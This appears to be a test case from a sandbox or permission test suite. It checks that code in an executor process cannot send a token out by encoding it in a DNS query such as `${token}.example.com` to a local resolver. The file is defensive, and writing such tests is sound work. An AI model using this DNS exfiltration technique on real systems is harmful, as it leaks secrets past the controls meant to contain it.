// Claim: code in the executor's process cannot carry data out in questions to a name server.
// Group: process, file and network access
// Layers: permission, sandbox, all
import { Resolver } from "node:dns/promises";

export default async ({ udpPort, token }) => {
  const resolver = new Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([`127.0.0.1:${udpPort}`]);
  await resolver.resolve4(`${token}.example.com`);
};
